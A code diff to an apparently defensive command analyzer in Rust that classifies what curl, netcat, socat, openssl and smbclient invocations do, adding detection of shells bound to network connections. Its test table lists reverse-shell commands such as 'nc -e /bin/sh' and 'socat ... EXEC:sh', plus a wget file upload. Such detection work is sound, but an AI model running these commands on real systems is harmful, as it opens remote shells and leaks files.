@@ -154,11 +154,10 @@ fn curl(call: &mut Call<'_>) {
     urls.extend(call.values("--url"));
     for target in &urls {
         let expanded = target.clone();
-        if target.text.starts_with("file://") {
-            let path = word::instead(
-                target,
-                target.text.trim_start_matches("file://").trim_start_matches("localhost").to_owned(),
-            );
+        if target.text.starts_with("file:") {
+            let path = target.text.trim_start_matches("file:");
+            let path = path.strip_prefix("//").map_or(path, |path| path.trim_start_matches("localhost"));
+            let path = word::instead(target, path.to_owned());
             call.read(&path);
             continue;
         }
@@ -329,6 +328,7 @@ fn downloader(call: &mut Call<'_>) {
 }
 
 fn netcat(call: &mut Call<'_>) {
+    hands_out_shell(call);
     if call.any(&["-l", "--listen"]) {
         let port = call
             .value("-p")
@@ -375,7 +375,7 @@ fn socat(call: &mut Call<'_>) {
                 let words = word::fields(&target);
                 call.run_argv(words);
             }
-            "SYSTEM" | "SHELL" => call.run_shell(rest),
+            "SYSTEM" | "SHELL" => call.run_shell(target),
             "OPEN" | "FILE" | "CREATE" | "CREAT" | "GOPEN" | "PIPE" | "UNIX-LISTEN" | "UNIX"
             | "UNIX-CONNECT" => {
                 call.read(&target);
@@ -406,10 +406,33 @@ fn socat(call: &mut Call<'_>) {
             }
         }
     }
+    hands_out_shell(call);
+}
+
+/// A shell whose input and output are a connection.
+fn hands_out_shell(call: &mut Call<'_>) {
+    let shell = call.deeds.runs.iter().any(|run| match run {
+        crate::deed::Run::Argv { words, .. } => {
+            { words.iter().map(|word| word.text.as_str()).collect::<Vec<_>>().join(" ") }
+                .split(',')
+                .next()
+                .is_some_and(crate::languages::is_interpreter)
+        }
+        crate::deed::Run::Shell { text, .. } => crate::languages::is_interpreter(&text.text),
+        _ => false,
+    });
+    if shell {
+        call.finding("shell.remote_code", "a shell runs what comes over a connection");
+    }
 }
 
 fn plain_host(call: &mut Call<'_>) {
     if let Some(host) = call.operand(0) {
+        let text_browser = matches!(call.program.as_str(), "lynx" | "links" | "elinks" | "w3m" | "browsh");
+        if text_browser && (host.text.starts_with(['.', '/', '~']) || host.text.starts_with("file:")) {
+            let path = word::after(&host, "file://").or_else(|| word::after(&host, "file:")).unwrap_or(host);
+            return call.read(&path);
+        }
         let scheme = if host.text.contains("://") { "https" } else { "tcp" };
         if host.text.contains("://")
             || !std::path::Path::new(&host.text)
@@ -455,16 +478,14 @@ fn openssl(call: &mut Call<'_>) {
                 if let Some(file) = iter.next()
                     && !matches!(file.text.as_str(), "default" | "legacy" | "base" | "fips")
                 {
-                    call.run_file(file, "", Vec::new());
+                    call.run_native(file);
                 }
             }
             "-connect" | "-host" | "-url" => {
                 if let Some(host) = iter.next() {
-                    let body = if matches!(call.argv.stdin, crate::deed::Stdin::Inherited) {
-                        Vec::new()
-                    } else {
-                        vec!["-".to_owned()]
-                    };
+                    let nothing =
+                        matches!(call.argv.stdin, crate::deed::Stdin::Inherited) || call.stdin_is_empty();
+                    let body = if nothing { Vec::new() } else { vec!["-".to_owned()] };
                     call.contact(host, "tls", Direction::Both, body);
                     call.deeds.stdin = StdinRole::Sent;
                     call.deeds.output = Output::Network;
@@ -724,6 +745,7 @@ fn directory(call: &mut Call<'_>) {
     let words = call.operands.clone();
     let mut iter = words.iter();
     let mut found = false;
+    let mut sent: Vec<String> = Vec::new();
     while let Some(word) = iter.next() {
         match word.text.as_str() {
             "-h" | "-H" | "-S" | "-I" => {
@@ -738,7 +760,18 @@ fn directory(call: &mut Call<'_>) {
                 }
             }
             "-c" if call.program == "smbclient" => {
-                iter.next();
+                let Some(script) = iter.next() else { continue };
+                for line in word::split(script, ';') {
+                    let mut words = word::fields(&line).into_iter();
+                    if matches!(words.next().map(|verb| verb.text).as_deref(), Some("put" | "mput" | "reput"))
+                    {
+                        words.for_each(|file| {
+                            call.read(&file);
+                            sent.push(file.text);
+                        });
+                        call.deeds.reads.iter_mut().for_each(|read| read.reaches_host = true);
+                    }
+                }
             }
             text if text.starts_with("//") || text.contains("://") => {
                 found = true;
@@ -747,6 +780,9 @@ fn directory(call: &mut Call<'_>) {
             }
             _ => {}
         }
+    }
+    if !sent.is_empty() {
+        call.deeds.hosts.iter_mut().for_each(|host| host.body_from.clone_from(&sent));
     }
     if matches!(call.program.as_str(), "smbstatus" | "nfsstat" | "wbinfo") {
         call.nature = Nature::Reads;
@@ -822,9 +858,9 @@ mod tests {
             ("wget -O x https://a.example/x", "download x; fetch a.example"),
             ("wget --use-ask=x https://a.example/x", "download x; fetch a.example; argv x"),
             ("wget --post-file=x https://a.example/y", "read x; download y; send a.example <x"),
-            ("nc -e /bin/sh h 4444", "both h:4444; argv /bin/sh"),
+            ("nc -e /bin/sh h 4444", "both h:4444; remote_code; argv /bin/sh"),
             ("nc -l 4444", "listen *:4444; plain"),
-            ("socat TCP:h:1 EXEC:sh", "both h:1 <-; argv sh"),
+            ("socat TCP:h:1 EXEC:sh", "both h:1 <-; remote_code; argv sh"),
             ("dig x.example", "both x.example; plain"),
             ("ping -c 1 a.example", "both a.example; plain"),
             ("ip addr", "read-only"),
